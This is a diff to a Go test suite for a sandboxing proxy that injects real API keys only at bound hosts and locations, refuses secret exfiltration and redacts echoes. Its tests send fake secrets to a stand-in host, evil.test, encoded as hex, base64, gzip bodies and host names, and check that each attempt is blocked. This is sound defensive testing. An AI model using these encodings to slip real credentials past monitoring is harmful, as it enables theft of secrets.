@@ -31,10 +31,13 @@ const (
 	valLone = "lonely-real-value-55"
 )
 
+// everywhere is every place a value can be injected.
+var everywhere = []string{"header", "query", "path", "body"}
+
 func testSecrets() []Secret {
 	return []Secret{
-		{Name: "API_KEY", Placeholder: phKey, Value: valKey, Hosts: []string{"api.test", "plain.test:80"}},
-		{Name: "OTHER_TOKEN", Placeholder: phTok, Value: valTok, Hosts: []string{"*.other.test"}},
+		{Name: "API_KEY", Placeholder: phKey, Value: valKey, Hosts: []string{"api.test", "plain.test:80"}, Inject: everywhere},
+		{Name: "OTHER_TOKEN", Placeholder: phTok, Value: valTok, Hosts: []string{"*.other.test"}, Inject: everywhere},
 		{Name: "LONELY_SECRET", Placeholder: phLone, Value: valLone},
 	}
 }
@@ -348,7 +351,7 @@ func TestSecretExfiltration(t *testing.T) {
 			r.Header.Set("x-api-key", phKey)
 			return r
 		}},
-		{"query", "evil.test", "", "URL", func(h string) *http.Request {
+		{"query", "evil.test", "", "URL query parameter k", func(h string) *http.Request {
 			r, _ := http.NewRequest("GET", "https://"+h+"/q?k="+phKey, nil)
 			return r
 		}},
@@ -374,7 +377,7 @@ func TestSecretExfiltration(t *testing.T) {
 			r.Header.Set("Authorization", "Bearer "+phKey)
 			return r
 		}},
-		{"plain HTTP", "evil.test", "", "URL", func(h string) *http.Request {
+		{"plain HTTP", "evil.test", "", "URL query parameter k", func(h string) *http.Request {
 			r, _ := http.NewRequest("GET", "http://"+h+"/p?k="+phKey, nil)
 			return r
 		}},
@@ -444,7 +447,7 @@ func TestSecretHeaderLineBreak(t *testing.T) {
 	up := newUpstream(t, nil, nil)
 	e := newEnv(t, Config{
 		Rules:   Rules{Allow: []string{"crlf.test"}, Hosts: map[string]string{"crlf.test": up.addr()}},
-		Secrets: []Secret{{Name: "CRLF_KEY", Placeholder: ph, Value: val, Hosts: []string{"crlf.test"}}},
+		Secrets: []Secret{{Name: "CRLF_KEY", Placeholder: ph, Value: val, Hosts: []string{"crlf.test"}, Inject: everywhere}},
 	})
 	c := e.client()
 	req, _ := http.NewRequest("GET", "http://crlf.test/header", nil)
@@ -560,7 +563,9 @@ func TestSecretsUntouched(t *testing.T) {
 	f.evil.mu.Lock()
 	last, body := f.evil.last, f.evil.body
 	f.evil.mu.Unlock()
-	for k, want := range map[string]string{"Content-Type": "application/json", "X-Custom": "a, b;  c", "Accept-Encoding": "br, zstd",
+	// Accept-Encoding keeps only what the proxy can decode to redact a
+	// response: br and zstd go.
+	for k, want := range map[string]string{"Content-Type": "application/json", "X-Custom": "a, b;  c", "Accept-Encoding": "",
 		"Authorization": req.Header.Get("Authorization")} {
 		if got := last.Header.Get(k); got != want {
 			t.Errorf("%s: %q, want %q", k, got, want)
@@ -804,5 +809,440 @@ func TestSecretStreams(t *testing.T) {
 	e := f.e.entry(t, func(x Entry) bool { return x.Path == "/upgrade" })
 	if e.Verdict != "deny" || !strings.HasPrefix(e.Reason, "exfiltration attempt: API_KEY in an upgraded connection to evil.test") {
 		t.Errorf("log entry %+v", e)
+	}
+}
+
+// Shaped placeholders, as the jail makes them for values with a known
+// prefix, bound to api.test with their providers' locations.
+const (
+	phAnt  = "sk-ant-api03-jailAbcdefghijklmnopqrstuvwxyz0123456789"
+	valAnt = "sk-ant-api03-REALrealREALrealREALreal+/0123456789xyz"
+	phGem  = "AIzajailBcdefghijklmnopqrstuvwxyz012345"
+	valGem = "AIzaSyREALrealREALrealREALrealREALreal0"
+	phGh   = "ghp_jailAbcdefghijklmnopqrstuvwxyz012345"
+	valGh  = "ghp_REALrealREALrealREALrealREALrealREAL"
+)
+
+func locationSecrets() []Secret {
+	return []Secret{
+		{Name: "ANTHROPIC_API_KEY", Placeholder: phAnt, Value: valAnt, Hosts: []string{"api.test"}, Inject: []string{"header:x-api-key", "header:Authorization"}},
+		{Name: "GEMINI_API_KEY", Placeholder: phGem, Value: valGem, Hosts: []string{"api.test"}, Inject: []string{"header:x-goog-api-key", "query:key"}},
+		{Name: "GITHUB_TOKEN", Placeholder: phGh, Value: valGh, Hosts: []string{"api.test"}, Inject: []string{"header:Authorization"}},
+		{Name: "PLAIN_TOKEN", Placeholder: "jail-secret-PLAIN_TOKEN-q7r8s9", Value: "plain-real-value-0042", Hosts: []string{"api.test"}},
+		{Name: "AWS_ACCESS_KEY_ID", Placeholder: "AKIAJAILQRSTUVWXYZ23", Value: "AKIAREALREALREAL2345", Hosts: []string{"api.test"}, Inject: []string{"header:X-Amz-Key"}},
+	}
+}
+
+// TestSecretLocations: a value goes only where its binding says; a bound
+// placeholder anywhere else reaches its host unchanged and the log says
+// where it was kept; to any other host it is refused.
+func TestSecretLocations(t *testing.T) {
+	t.Parallel()
+	upCA := memCA(t)
+	api, evil := newUpstream(t, upCA, nil), newUpstream(t, upCA, nil)
+	e := newEnv(t, Config{
+		Rules:    Rules{Allow: []string{"api.test", "evil.test"}, Hosts: map[string]string{"api.test": api.addr(), "evil.test": evil.addr()}},
+		Upstream: &tls.Config{RootCAs: pool(upCA)},
+		Secrets:  locationSecrets(),
+	})
+	c := e.client()
+	tests := []struct {
+		name, path, query, body string
+		header                  map[string]string
+		basic                   string // a Basic password
+		seen, notSeen           []string
+		kept                    []string
+	}{
+		{name: "provider headers", path: "/h1", header: map[string]string{"X-Api-Key": phAnt, "X-Goog-Api-Key": phGem, "Authorization": "token " + phGh},
+			seen: []string{"X-Api-Key: " + valAnt, "X-Goog-Api-Key: " + valGem, "Authorization: token " + valGh}},
+		{name: "shaped, no common prefix", path: "/h5", header: map[string]string{"X-Amz-Key": "AKIAJAILQRSTUVWXYZ23", "X-Echo": "AKIAJAILQRSTUVWXYZ23"},
+			seen: []string{"X-Amz-Key: AKIAREALREALREAL2345", "X-Echo: AKIAJAILQRSTUVWXYZ23"}, kept: []string{"AWS_ACCESS_KEY_ID in the header X-Echo"}},
+		{name: "bearer", path: "/h2", header: map[string]string{"Authorization": "Bearer " + phAnt}, seen: []string{"Authorization: Bearer " + valAnt}},
+		{name: "basic", path: "/h3", basic: phGh, seen: []string{"Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("git:"+valGh))}},
+		{name: "another header", path: "/h4", header: map[string]string{"X-Other": phAnt, "X-Plain": "jail-secret-PLAIN_TOKEN-q7r8s9"},
+			seen: []string{"X-Other: " + phAnt, "X-Plain: plain-real-value-0042"}, kept: []string{"ANTHROPIC_API_KEY in the header X-Other"}},
+		{name: "prompt body", path: "/b", body: `{"prompt":"my key is ` + phAnt + ` and ` + phGem + `"}`, header: map[string]string{"X-Api-Key": phAnt},
+			seen: []string{"X-Api-Key: " + valAnt, `"my key is ` + phAnt + ` and ` + phGem + `"`}, notSeen: []string{valAnt + `"`, valGem},
+			kept: []string{"ANTHROPIC_API_KEY in the body", "GEMINI_API_KEY in the body"}},
+		{name: "query", path: "/q", query: "key=" + phGem + "&q=" + phGem + "&a=" + phAnt,
+			seen: []string{"/q?key=" + valGem + "&q=" + phGem + "&a=" + phAnt},
+			kept: []string{"GEMINI_API_KEY in the URL query parameter q", "ANTHROPIC_API_KEY in the URL query parameter a"}},
+		{name: "path", path: "/p/" + phAnt, seen: []string{"/p/" + phAnt}, kept: []string{"ANTHROPIC_API_KEY in the URL path"}},
+	}
+	for _, tt := range tests {
+		var body io.Reader
+		if tt.body != "" {
+			body = strings.NewReader(tt.body)
+		}
+		u := "https://api.test" + tt.path
+		if tt.query != "" {
+			u += "?" + tt.query
+		}
+		req, _ := http.NewRequest("POST", u, body)
+		req.Header.Set("Content-Type", "application/json")
+		for k, v := range tt.header {
+			req.Header.Set(k, v)
+		}
+		if tt.basic != "" {
+			req.SetBasicAuth("git", tt.basic)
+		}
+		if resp, b := do(t, c, req); resp.StatusCode != 200 {
+			t.Fatalf("%s: %d %q", tt.name, resp.StatusCode, b)
+		}
+		got := api.seen()
+		for _, s := range tt.seen {
+			if !strings.Contains(got, s) {
+				t.Errorf("%s: the upstream did not get %q:\n%s", tt.name, s, got)
+			}
+		}
+		for _, s := range tt.notSeen {
+			if strings.Contains(got, s) {
+				t.Errorf("%s: the upstream got %q:\n%s", tt.name, s, got)
+			}
+		}
+		path := tt.path
+		entry := e.entry(t, func(x Entry) bool { return x.Path == path })
+		if entry.Verdict != "allow" || !slices.Equal(entry.Kept, tt.kept) {
+			t.Errorf("%s: log entry %+v, want kept %q", tt.name, entry, tt.kept)
+		}
+	}
+
+	// To a host it is not bound to, a placeholder is refused wherever it is.
+	req, _ := http.NewRequest("POST", "https://evil.test/x", strings.NewReader(`{"p":"`+phAnt+`"}`))
+	req.Header.Set("Content-Type", "application/json")
+	if resp, b := do(t, c, req); resp.StatusCode != 403 || strings.Count(b, "\n") != 1 {
+		t.Errorf("to evil.test: %d %q", resp.StatusCode, b)
+	}
+	entry := e.entry(t, func(x Entry) bool { return x.Host == "evil.test" })
+	if entry.Verdict != "deny" || !strings.HasPrefix(entry.Reason, "exfiltration attempt: ANTHROPIC_API_KEY in the body to evil.test") {
+		t.Errorf("to evil.test: log entry %+v", entry)
+	}
+	if n := evil.hits.Load(); n != 0 {
+		t.Errorf("evil.test received %d requests", n)
+	}
+}
+
+func TestCheckLocation(t *testing.T) {
+	for _, ok := range []string{"header", "header:x-api-key", "header:Authorization", "query", "query:key", "path", "body"} {
+		if err := CheckLocation(ok); err != nil {
+			t.Errorf("%q: %v", ok, err)
+		}
+	}
+	for _, bad := range []string{"", "headers", "header:", "header:a b", "query:", "query:a&b", "body:x", "path:/", "cookie", "Header"} {
+		if err := CheckLocation(bad); err == nil {
+			t.Errorf("%q accepted", bad)
+		}
+	}
+	if _, err := New(Config{CA: memCA(t), Secrets: []Secret{{Name: "A", Placeholder: phKey, Inject: []string{"everywhere"}}}}); err == nil {
+		t.Error("a secret with a bad location accepted")
+	}
+}
+
+// valueSpellings is every way the tests write valKey (whose '+', '/' and
+// '=' make each spelling differ) when sending it.
+func valueSpellings() map[string]string {
+	sp := map[string]string{
+		"raw":               valKey,
+		"JSON-escaped":      strings.ReplaceAll(valKey, "/", `\/`), // as some encoders write it
+		"URL-escaped query": url.QueryEscape(valKey),
+		"URL-escaped path":  url.PathEscape(valKey),
+		"URL-escaped lower": strings.ToLower(url.QueryEscape(valKey)),
+		"hex":               fmt.Sprintf("%x", valKey),
+		"HEX":               fmt.Sprintf("%X", valKey),
+	}
+	for a := 0; a < 3; a++ {
+		padded := strings.Repeat("x", a) + valKey + "tail"
+		for name, enc := range map[string]*base64.Encoding{"std": base64.StdEncoding, "url": base64.URLEncoding, "raw-std": base64.RawStdEncoding, "raw-url": base64.RawURLEncoding} {
+			sp[fmt.Sprintf("base64 %s %d", name, a)] = enc.EncodeToString([]byte(padded))
+		}
+		sp[fmt.Sprintf("base64 alone %d", a)] = base64.StdEncoding.EncodeToString([]byte(strings.Repeat("y", a) + valKey))
+	}
+	return sp
+}
+
+func spellingLabel(name string) string {
+	switch {
+	case strings.HasPrefix(name, "URL"):
+		return "URL-escaped"
+	case strings.EqualFold(name, "hex"):
+		return "hex"
+	case strings.HasPrefix(name, "base64"):
+		return "base64"
+	}
+	return name
+}
+
+// TestSecretRealValueRefused: the real value, which the jail never saw,
+// is refused in every spelling in every part of a request, to its own
+// host as to any other, and never reaches either.
+func TestSecretRealValueRefused(t *testing.T) {
+	t.Parallel()
+	f := newSecretFixture(t, nil)
+	for name, text := range valueSpellings() {
+		label := spellingLabel(name)
+		for _, host := range []string{"api.test", "evil.test"} {
+			for _, where := range []string{"header", "query", "path", "body", "chunked body"} {
+				path := "/v/" + strings.ReplaceAll(name, " ", "-") + "/" + where
+				u := "https://" + host + path
+				var body io.Reader
+				switch where {
+				case "query":
+					u += "?x=1&v=" + text
+				case "path":
+					u += "/" + text
+					path += "/" + text
+				case "body":
+					body = strings.NewReader(`{"v":"` + text + `"}`)
+				case "chunked body":
+					pr, pw := io.Pipe()
+					go func() {
+						io.WriteString(pw, `{"v":"`+text[:len(text)/2])
+						time.Sleep(5 * time.Millisecond)
+						io.WriteString(pw, text[len(text)/2:]+`"}`)
+						pw.Close()
+					}()
+					body = pr
+				}
+				req, err := http.NewRequest("POST", u, body)
+				if err != nil {
+					t.Fatal(err)
+				}
+				req.Header.Set("Content-Type", "application/json")
+				if where == "header" {
+					req.Header.Set("X-Data", text)
+				}
+				resp, err := f.c.Do(req)
+				if err != nil {
+					t.Fatalf("%s %s %s: %v", name, host, where, err)
+				}
+				b, _ := io.ReadAll(resp.Body)
+				resp.Body.Close()
+				if resp.StatusCode != 403 || strings.Count(string(b), "\n") != 1 || !strings.Contains(string(b), "real value of API_KEY") {
+					t.Errorf("%s %s %s: %d %q, want 403 and one line", name, host, where, resp.StatusCode, b)
+				}
+				want := "exfiltration attempt: real value of API_KEY (" + label + ") in the "
+				p, _ := url.PathUnescape(path)
+				e := f.e.entry(t, func(x Entry) bool {
+					return strings.HasPrefix(x.Path, "/v/"+strings.ReplaceAll(name, " ", "-")+"/"+where) && x.Host == host
+				})
+				if e.Verdict != "deny" || !strings.HasPrefix(e.Reason, want) || !strings.HasSuffix(e.Reason, " to "+host) {
+					t.Errorf("%s %s %s (%s): log entry %+v, want %q", name, host, where, p, e, want)
+				}
+			}
+		}
+	}
+	if n := f.api.hits.Load() + f.evil.hits.Load(); n != 0 {
+		t.Errorf("the upstreams received %d requests", n)
+	}
+	noValues(t, f.e)
+}
+
+// splitReader returns its data in two reads, split at n.
+type splitReader struct {
+	data []byte
+	n    int
+}
+
+func (r *splitReader) Read(p []byte) (int, error) {
+	if len(r.data) == 0 {
+		return 0, io.EOF
+	}
+	k := min(len(p), len(r.data))
+	if r.n > 0 {
+		k = min(k, r.n)
+	}
+	r.n = 0
+	copy(p, r.data[:k])
+	r.data = r.data[k:]
+	return k, nil
+}
+
+// TestSecretValueSplitAcrossReads: a real value in a streamed body, or in
+// a raw tunnel, is found wherever the reads split it, and nothing of it
+// is passed on before the refusal.
+func TestSecretValueSplitAcrossReads(t *testing.T) {
+	ss, err := newSecrets(testSecrets())
+	if err != nil {
+		t.Fatal(err)
+	}
+	h, _ := normalizeHost("api.test")
+	for name, text := range valueSpellings() {
+		data := []byte(`{"a":"before","v":"` + text + `","z":"after"}`)
+		for cut := 1; cut < len(data); cut++ {
+			in := ss.begin(h, 443)
+			rr := newReplacingReader(&splitReader{data: append([]byte(nil), data...), n: cut}, in.rewriter(place{kind: inBody}, escJSON, modeInject))
+			out, err := io.ReadAll(rr)
+			if err != errSecretValue || in.refused() == nil || in.refused().spelling != spellingLabel(name) {
+				t.Fatalf("%s cut at %d: %v, refusal %+v", name, cut, err, in.refused())
+			}
+			// A base64 text's first characters are the bytes before the
+			// value, or share bits with them; those may pass.
+			if !bytes.HasPrefix(data, out) || len(out) > strings.Index(string(data), text)+3 {
+				t.Fatalf("%s cut at %d: passed on %q", name, cut, out)
+			}
+			var found *streamHit
+			sr := ss.scanStream(&splitReader{data: append([]byte(nil), data...), n: cut}, &found)
+			out, err = io.ReadAll(sr)
+			if err != errSecretExfil || found == nil || found.spelling != spellingLabel(name) {
+				t.Fatalf("%s cut at %d: raw stream: %v, %+v", name, cut, err, found)
+			}
+			// Less than minHeld bytes of the spelling may pass, after
+			// what a base64 text's first characters share.
+			if !bytes.HasPrefix(data, out) || len(out) > strings.Index(string(data), text)+3+minHeld-1 {
+				t.Fatalf("%s cut at %d: the raw stream passed on %q", name, cut, out)
+			}
+		}
+	}
+}
+
+// TestSecretRedactionEveryType: an echoed value is redacted whatever the
+// response's type, and its base64 at every alignment.
+func TestSecretRedactionEveryType(t *testing.T) {
+	t.Parallel()
+	f := newSecretFixture(t, func(w http.ResponseWriter, r *http.Request) {
+		ct := r.URL.Query().Get("ct")
+		if ct != "" {
+			w.Header().Set("Content-Type", ct)
+		}
+		a := len(r.URL.Query().Get("a"))
+		switch r.URL.Path {
+		case "/raw":
+			io.WriteString(w, "\x00\x01bin "+valKey+" \xff")
+		case "/b64":
+			io.WriteString(w, base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00", a)+valTok+"\x01\x02")))
+		case "/b64url":
+			io.WriteString(w, base64.RawURLEncoding.EncodeToString([]byte(strings.Repeat("p", a)+valKey)))
+		case "/hex":
+			fmt.Fprintf(w, "%x", valTok)
+		}
+	})
+	for _, ct := range []string{"application/octet-stream", "image/png", "", "application/x-unknown-thing", "application/zip"} {
+		for _, tt := range []struct{ path, a string }{{"/raw", ""}, {"/hex", ""}, {"/b64", ""}, {"/b64", "a"}, {"/b64", "aa"}, {"/b64url", ""}, {"/b64url", "a"}, {"/b64url", "aa"}} {
+			_, body := get(t, f.c, "https://api.test"+tt.path+"?a="+tt.a+"&ct="+url.QueryEscape(ct))
+			for _, bad := range leaks(body) {
+				t.Errorf("%s%s (a=%d, %q): the response holds %s: %q", "api.test", tt.path, len(tt.a), ct, bad, body)
+			}
+			if tt.path == "/raw" && !strings.Contains(body, phKey) {
+				t.Errorf("%q: raw echo not replaced by the placeholder: %q", ct, body)
+			}
+			if tt.path == "/hex" && !strings.Contains(body, fmt.Sprintf("%x", phTok)) {
+				t.Errorf("%q: hex echo not replaced by the placeholder's hex: %q", ct, body)
+			}
+		}
+	}
+}
+
+// leaks says which spellings of valKey or valTok a text holds.
+func leaks(s string) []string {
+	var out []string
+	for _, v := range []string{valKey, valTok} {
+		if strings.Contains(s, v) {
+			out = append(out, "a raw value")
+		}
+		if strings.Contains(strings.ToLower(s), fmt.Sprintf("%x", v)) {
+			out = append(out, "a hex value")
+		}
+		for a := 0; a < 3; a++ {
+			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding} {
+				if strings.Contains(s, string(base64Core(enc, []byte(v), a))) {
+					out = append(out, fmt.Sprintf("a base64 value at alignment %d", a))
+				}
+			}
+		}
+	}
+	return out
+}
+
+// TestBase64Redacted: a base64 echo is replaced by the placeholder's
+// base64 where the lengths allow, and never keeps the value's core.
+func TestBase64Redacted(t *testing.T) {
+	const val, ph = "0123456789abcdefghijklmn", "jail-secret-X-abcdefghi" // 24 and 23 bytes
+	const same = "jail-secret-X-abcdefghij"                               // as long as val
+	for a := 0; a < 3; a++ {
+		for _, p := range []string{ph, same} {
+			r := base64Redacted(base64.StdEncoding, val, p, a)
+			core := base64Core(base64.StdEncoding, []byte(val), a)
+			if len(r) != len(core) && !(a == 0 && len(val)%3 == 0 && len(p)%3 == 0) || bytes.Equal(r, core) {
+				t.Errorf("a=%d ph %q: %q for %q", a, p, r, core)
+			}
+		}
+		enc := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("z", a) + val + "!!"))
+		ss, _ := newSecrets([]Secret{{Name: "X", Placeholder: same, Value: val}})
+		dec, err := base64.StdEncoding.DecodeString(ss.redactString(enc))
+		if err != nil || !strings.Contains(string(dec), same[1:len(same)-1]) {
+			t.Errorf("a=%d: %q decodes to %q (%v), want the placeholder", a, ss.redactString(enc), dec, err)
+		}
+	}
+}
+
+// TestSecretInHostName: a real value spelled into a host name under an
+// allowed wildcard, or a placeholder there, is refused before the name
+// is looked up, by CONNECT, SOCKS and plain HTTP alike, and the log holds
+// the name redacted.
+func TestSecretInHostName(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, Config{Rules: Rules{Allow: []string{"*.wild.test"}}, Secrets: testSecrets()})
+	hexName := fmt.Sprintf("%x", valTok) + ".wild.test"
+	phName := strings.ToLower(phTok) + ".wild.test"
+	for _, name := range []string{hexName, phName} {
+		resp, _, c, _ := raw(t, e.httpAddr, "CONNECT "+name+":443 HTTP/1.1\r\nHost: "+name+":443\r\n\r\n")
+		c.Close()
+		if resp.StatusCode != 403 {
+			t.Errorf("CONNECT %s: %d", name, resp.StatusCode)
+		}
+		if code, c := socks(t, e.socksAddr, socksConnect, socksDomain, name, 443); code != socksNotAllowed {
+			t.Errorf("SOCKS %s: %#x", name, code)
+		} else {
+			c.Close()
+		}
+		resp, _, c, _ = raw(t, e.httpAddr, "GET http://"+name+"/x HTTP/1.1\r\nHost: "+name+"\r\n\r\n")
+		c.Close()
+		if resp.StatusCode != 403 {
+			t.Errorf("GET %s: %d", name, resp.StatusCode)
+		}
+	}
+	log := e.logText(t)
+	if strings.Count(log, `"verdict":"deny"`) != 6 || strings.Contains(log, fmt.Sprintf("%x", valTok)) || !strings.Contains(log, "real value of OTHER_TOKEN (hex) in the host name") {
+		t.Errorf("log:\n%s", log)
+	}
+}
+
+// TestSecretInGzipBody: a real value or an unbound placeholder in a
+// gzip-encoded request body is found as it inflates and refused; a clean
+// one is sent on as it came.
+func TestSecretInGzipBody(t *testing.T) {
+	t.Parallel()
+	f := newSecretFixture(t, nil)
+	zip := func(s string) []byte {
+		var b bytes.Buffer
+		zw := gzip.NewWriter(&b)
+		io.WriteString(zw, s)
+		zw.Close()
+		return b.Bytes()
+	}
+	for _, tt := range []struct {
+		host, path, body string
+		status           int
+	}{
+		{"api.test", "/gz-value", `{"d":"` + base64.StdEncoding.EncodeToString([]byte(valKey)) + `"}`, 403},
+		{"evil.test", "/gz-value", `{"d":"` + valTok + `"}`, 403},
+		{"evil.test", "/gz-ph", `{"d":"` + phKey + `"}`, 403},
+		{"evil.test", "/gz-clean", strings.Repeat(`{"d":"nothing to see"}`, 100), 200},
+	} {
+		z := zip(tt.body)
+		req, _ := http.NewRequest("POST", "https://"+tt.host+tt.path, bytes.NewReader(z))
+		req.Header.Set("Content-Encoding", "gzip")
+		req.Header.Set("Content-Type", "application/json")
+		if resp, b := do(t, f.c, req); resp.StatusCode != tt.status {
+			t.Errorf("%s%s: %d %q, want %d", tt.host, tt.path, resp.StatusCode, b, tt.status)
+		}
+	}
+	f.evil.mu.Lock()
+	defer f.evil.mu.Unlock()
+	if f.evil.hits.Load() != 1 || f.evil.last.URL.Path != "/gz-clean" || f.evil.body != string(zip(strings.Repeat(`{"d":"nothing to see"}`, 100))) {
+		t.Errorf("evil.test received %d requests, the last %s", f.evil.hits.Load(), f.evil.last.URL)
+	}
+	if f.api.hits.Load() != 0 {
+		t.Errorf("api.test received %d requests", f.api.hits.Load())
 	}
 }
